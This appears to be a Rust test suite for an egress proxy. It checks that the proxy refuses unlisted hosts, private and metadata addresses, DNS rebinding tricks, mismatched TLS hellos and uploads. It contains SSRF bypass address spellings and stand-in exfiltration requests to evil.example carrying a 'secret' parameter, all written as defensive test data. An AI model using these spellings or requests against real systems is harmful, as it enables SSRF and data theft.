//! Tests of the egress proxy over real sockets: open hosts, refusals and counts.
#![allow(
    clippy::unwrap_used,
    missing_docs,
    unreachable_pub,
    reason = "a test panics on whatever it does not expect, and its parts are nobody's interface"
)]

#[path = "egress/limits.rs"]
mod limits;
#[path = "egress/memory.rs"]
mod memory;
#[path = "egress/mirrors.rs"]
mod mirrors;
mod rig;
#[path = "egress/upstream.rs"]
mod upstream;

use axum::body::Body;
use grant::{Grant, GrantAudience};
use hyper::{Request, StatusCode, header};
use rig::{Echo, Plan, Registry, build_client_hello, build_grant, read_remaining_bytes, read_response_text};
use tokio::io::AsyncWriteExt;

#[tokio::test]
async fn proxy_reports_health_and_readiness() {
    let rig = Plan::default().start().await;
    assert_eq!(
        rig.ask("/healthz", &[]).await,
        (StatusCode::OK, "ok\n".to_owned())
    );
    assert_eq!(
        rig.ask("/readyz", &[]).await,
        (StatusCode::OK, "ready\n".to_owned())
    );
}

#[tokio::test]
async fn session_requires_a_grant_for_egress() {
    let rig = Plan::default().start().await;
    let now = bootstrap::read_wall_clock();
    let good = build_grant(&["open.example"]);
    let for_gate = Grant {
        audience: GrantAudience::Gate,
        ..good.clone()
    };
    for (token, why) in [
        ("", "a grant is needed"),
        ("nonsense", "the grant is not valid"),
        (&rig.token(&for_gate, now), "for another audience"),
        (&rig.token(&good, now.plus_ms(-16 * 60_000)), "has expired"),
    ] {
        let answer = rig.open(token).await;
        assert_eq!(answer.status(), StatusCode::UNAUTHORIZED, "{why}");
        let words = read_response_text(answer).await.unwrap();
        assert!(words.contains(why) && words.lines().count() == 1, "{words}");
        let bearer = format!("Bearer {token}");
        let (status, _) = rig.ask("/refusals", &[(header::AUTHORIZATION, &bearer)]).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{why}");
    }
    for path in ["/session", "/refusals"] {
        let (status, words) = rig.ask(path, &[]).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert!(words.contains("a grant is needed"), "{words}");
    }
    let bearer = format!("Bearer {}", rig.token(&good, now));
    let (status, _) = rig.ask("/session", &[(header::AUTHORIZATION, &bearer)]).await;
    assert_eq!(status, StatusCode::UPGRADE_REQUIRED);
}

#[tokio::test]
async fn nothing_is_forwarded_outside_of_a_session() {
    let registry = Registry::start().await;
    let rig = Plan::default().mirror("npm", registry.settings()).start().await;
    let absolute = format!("http://{}/public/file", registry.target());
    for path in [&absolute, "/mirror/npm/left-pad"] {
        let bearer = format!(
            "Bearer {}",
            rig.token(&build_grant(&[&registry.target()]), bootstrap::read_wall_clock())
        );
        let (status, _) = rig.ask(path, &[(header::AUTHORIZATION, &bearer)]).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
    assert!(registry.seen().is_empty());
}

#[tokio::test]
async fn tunnel_carries_bytes_after_one_name_lookup() {
    let echo = Echo::start().await;
    let rig = Plan::default().start().await;
    let mut tunnel = rig
        .connect(&build_grant(&[&echo.target()]), &echo.target())
        .await
        .unwrap();
    let mut sent = build_client_hello("open.example");
    sent.extend((0..300_000u32).flat_map(u32::to_le_bytes).take(400_000));
    let (mut reading, mut writing) = tokio::io::split(&mut tunnel);
    let write = async {
        // In pieces, so that the `ClientHello` does not arrive at once.
        for piece in sent.chunks(100).take(20) {
            writing.write_all(piece).await.unwrap();
            writing.flush().await.unwrap();
            tokio::task::yield_now().await;
        }
        writing.write_all(&sent[2000..]).await.unwrap();
        writing.shutdown().await.unwrap();
    };
    let ((), received) = tokio::join!(write, read_remaining_bytes(&mut reading));
    assert!(received == sent, "{} of {} bytes", received.len(), sent.len());
    assert!(echo.heard() == sent);
    assert_eq!(rig.names.asked(), 1);
    assert_eq!(rig.refusals(&build_grant(&[])).await, "");
}

#[tokio::test]
async fn unlisted_host_refusal_names_open_hosts() {
    let registry = Registry::start().await;
    let rig = Plan::default().mirror("npm", registry.settings()).start().await;
    let granted = build_grant(&["pypi.example", "*.crates.example"]);
    let end = "is not open to acme/shop; open: pypi.example, *.crates.example (executor.network in its rules); mirrors: /mirror/npm/\n";
    for target in ["evil.example:443", "pypi.example:22", "crates.example:443"] {
        assert_eq!(
            rig.refusal(&granted, target).await,
            format!("egress: {target} {end}")
        );
    }
    let nothing = rig.refusal(&build_grant(&[]), "pypi.example:443").await;
    assert!(nothing.contains("open: no host"), "{nothing}");
    let mut client = rig.client(&granted).await;
    let answer = client.get("http://evil.example/x?secret=1").await;
    assert_eq!(answer.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        read_response_text(answer).await.unwrap(),
        format!("egress: evil.example:80 {end}")
    );
    assert_eq!(rig.names.asked(), 0, "a closed host is not even looked up");
}

#[tokio::test]
async fn address_target_is_refused_in_every_spelling() {
    let rig = Plan::default().start().await;
    let granted = build_grant(&["open.example"]);
    for host in [
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "8.8.8.8",
    ] {
        let refusal = rig.refusal(&granted, &format!("{host}:443")).await;
        assert!(refusal.contains("is an address"), "{refusal}");
        let mut client = rig.client(&granted).await;
        let answer = client.get(&format!("http://{host}/")).await;
        assert_eq!(answer.status(), StatusCode::FORBIDDEN, "{host}");
    }
    assert_eq!(rig.names.asked(), 0);
}

#[tokio::test]
async fn name_with_any_private_address_is_refused() {
    let echo = Echo::start().await;
    let hostile: [&[&str]; 9] = [
        &["127.0.0.1"],
        &["169.254.169.254"],
        &["10.0.0.1"],
        &["100.64.0.1"],
        &["::1"],
        &["fe80::1"],
        &["::ffff:127.0.0.1"],
        &["64:ff9b::7f00:1"],
        &["93.184.216.34", "127.0.0.1"],
    ];
    for answer in hostile {
        let rig = Plan::default()
            .strict()
            .name("open.example", &[answer])
            .start()
            .await;
        let granted = build_grant(&[&echo.target()]);
        let refusal = rig.refusal(&granted, &echo.target()).await;
        assert!(
            refusal.contains("leads to an address that is not public"),
            "{answer:?}: {refusal}"
        );
        assert!(
            !refusal.contains(answer[0]),
            "an inner address is nobody's business: {refusal}"
        );
        let mut client = rig.client(&granted).await;
        let answered = client.get(&format!("http://{}/", echo.target())).await;
        assert_eq!(answered.status(), StatusCode::FORBIDDEN, "{answer:?}");
        assert_eq!(rig.names.asked(), 2);
    }
    assert_eq!(echo.visits(), 0);
}

#[tokio::test]
async fn metadata_stays_closed_whatever_the_operator_permits() {
    let mut plan = Plan::default();
    plan.settings.private_networks.0 = vec!["0.0.0.0/0".to_owned(), "::/0".to_owned()];
    for (name, answer) in [
        ("a.example", "169.254.169.254"),
        ("b.example", "fe80::1"),
        ("c.example", "::ffff:169.254.1.1"),
    ] {
        plan = plan.name(name, &[&[answer]]);
    }
    let rig = plan.start().await;
    let granted = build_grant(&["*.example"]);
    for name in ["a.example:443", "b.example:443", "c.example:443"] {
        assert!(rig.refusal(&granted, name).await.contains("not public"));
    }
}

#[tokio::test]
async fn tunnel_dials_the_address_that_was_checked() {
    let (echo, registry) = (Echo::start().await, Registry::start().await);
    // A second lookup would return another address, where no host listens.
    let answers: [&[&str]; 2] = [&["127.0.0.1"], &["127.0.0.2"]];
    let rig = Plan::default().name("open.example", &answers).start().await;
    let _tunnel = rig.tunnel(&build_grant(&[&echo.target()]), &echo.target()).await;
    assert_eq!((rig.names.asked(), echo.visits()), (1, 1));

    let rig = Plan::default().name("open.example", &answers).start().await;
    let mut client = rig.client(&build_grant(&[&registry.target()])).await;
    let answer = client
        .get(&format!("http://{}/public/file", registry.target()))
        .await;
    assert_eq!(read_response_text(answer).await.unwrap(), "a public file");
    assert_eq!(rig.names.asked(), 1);
}

#[tokio::test]
async fn silent_host_is_an_error_not_refusal() {
    let rig = Plan::default()
        .name("silent.example", &[&["127.0.0.1"]])
        .start()
        .await;
    let granted = build_grant(&["*.example:1"]);
    for (target, why) in [
        ("silent.example:1", "cannot be reached"),
        ("unknown.example:1", "cannot be resolved"),
    ] {
        let (status, words) = rig.connect(&granted, target).await.map(drop).unwrap_err();
        assert_eq!(
            (status, words),
            (StatusCode::BAD_GATEWAY, format!("egress: {target} {why}\n"))
        );
        let mut client = rig.client(&granted).await;
        let answer = client.get(&format!("http://{target}/?secret=1")).await;
        assert_eq!(answer.status(), StatusCode::BAD_GATEWAY);
        assert!(!read_response_text(answer).await.unwrap().contains("secret"));
    }
    assert_eq!(rig.refusals(&granted).await, "");
}

#[tokio::test]
async fn tunnel_without_matching_hello_sends_nothing() {
    let echo = Echo::start().await;
    let rig = Plan::default().start().await;
    let granted = build_grant(&[&echo.target()]);
    let mut old_hello = build_client_hello("open.example");
    old_hello.truncate(60);
    let mut too_long = build_client_hello("open.example");
    too_long[3..5].copy_from_slice(&[0xff, 0xff]);
    too_long.resize(70_000, 0);
    for first in [
        build_client_hello("evil.example"),
        build_client_hello("127.0.0.1"),
        b"GET / HTTP/1.1\r\nHost: open.example\r\n\r\n".to_vec(),
        b"SSH-2.0-OpenSSH_9.9\r\n".to_vec(),
        too_long,
    ] {
        let mut tunnel = rig.connect(&granted, &echo.target()).await.unwrap();
        let _ = tunnel.write_all(&first).await;
        assert!(read_remaining_bytes(&mut tunnel).await.is_empty());
    }
    let mut tunnel = rig.connect(&granted, &echo.target()).await.unwrap();
    tunnel.write_all(&old_hello).await.unwrap();
    tunnel.shutdown().await.unwrap();
    assert!(read_remaining_bytes(&mut tunnel).await.is_empty());
    assert!(echo.heard().is_empty());
    let refusals = rig.refusals(&granted).await;
    let target = echo.target();
    let expected = format!(
        "{target} is not the host that the TLS client named, 2 times\n\
         {target} was not asked in TLS, the only thing that a tunnel carries, 4 times\n"
    );
    assert_eq!(refusals, expected);
}

#[tokio::test]
async fn plain_http_passes_redirects_to_the_client() {
    let registry = Registry::start().await;
    let rig = Plan::default().start().await;
    let granted = build_grant(&[&registry.target()]);
    let mut client = rig.client(&granted).await;
    let url = |path: &str| format!("http://{}/public/{path}", registry.target());
    let answer = client.get(&url("file?x=1")).await;
    assert_eq!(answer.headers()[header::CONTENT_TYPE], "text/plain");
    assert_eq!(read_response_text(answer).await.unwrap(), "a public file");
    let moved = client.get(&url("moved")).await;
    assert_eq!(moved.status(), StatusCode::FOUND);
    assert_eq!(moved.headers()[header::LOCATION], "http://evil.example/");
    drop(read_response_text(moved).await);
    let request = Request::get(url("headers"))
        .header(header::HOST, "evil.example")
        .header(header::PROXY_AUTHORIZATION, "Basic secret")
        .header(header::CONNECTION, "x-hop")
        .header("x-hop", "1")
        .header("x-mine", "2");
    client.text(request.body(Body::empty()).unwrap()).await;
    let seen = registry.seen();
    assert_eq!(seen[0].uri, "/public/file?x=1");
    assert_eq!(seen[2].headers[header::HOST], registry.target());
    assert_eq!(seen[2].headers["x-mine"], "2");
    assert!(
        !seen[2].headers.contains_key("x-hop") && !seen[2].headers.contains_key(header::PROXY_AUTHORIZATION)
    );
    assert_eq!(seen.len(), 3, "no redirect is followed");
}

#[tokio::test]
async fn uploads_are_refused_in_http_and_mirrors() {
    let registry = Registry::start().await;
    let rig = Plan::default().mirror("npm", registry.settings()).start().await;
    let granted = build_grant(&[&registry.target()]);
    let absolute = format!("http://{}/public/file", registry.target());
    for uri in [&absolute, "/mirror/npm/left-pad"] {
        for (method, body) in [
            ("POST", "x"),
            ("PUT", "x"),
            ("PATCH", "x"),
            ("DELETE", ""),
            ("TRACE", ""),
            ("GET", "x"),
        ] {
            let mut client = rig.client(&granted).await;
            let request = Request::builder()
                .method(method)
                .uri(uri)
                .header(header::HOST, "bridge:8080");
            let (status, words) = client.text(request.body(Body::from(body)).unwrap()).await;
            assert_eq!(status, StatusCode::FORBIDDEN, "{method} {uri}");
            assert!(
                words.contains("takes GET, HEAD and OPTIONS without a body"),
                "{words}"
            );
        }
        for method in ["HEAD", "OPTIONS"] {
            let mut client = rig.client(&granted).await;
            let request = Request::builder()
                .method(method)
                .uri(uri)
                .header(header::HOST, "bridge:8080");
            let (status, _) = client.text(request.body(Body::empty()).unwrap()).await;
            assert_eq!(status, StatusCode::OK, "{method} {uri}");
        }
    }
    assert_eq!(registry.seen().len(), 4);
}

#[tokio::test]
async fn unknown_proxy_request_gets_an_explanation() {
    let rig = Plan::default().start().await;
    let mut client = rig.client(&build_grant(&["open.example"])).await;
    for uri in [
        "/",
        "/simple/",
        "https://open.example/",
        "http://ada:pass@open.example/",
        "/session",
        "/refusals",
    ] {
        let answer = client.get(uri).await;
        assert_eq!(answer.status(), StatusCode::BAD_REQUEST, "{uri}");
        let words = read_response_text(answer).await.unwrap();
        assert!(
            words.starts_with("egress: ") && words.lines().count() == 1,
            "{words}"
        );
    }
}
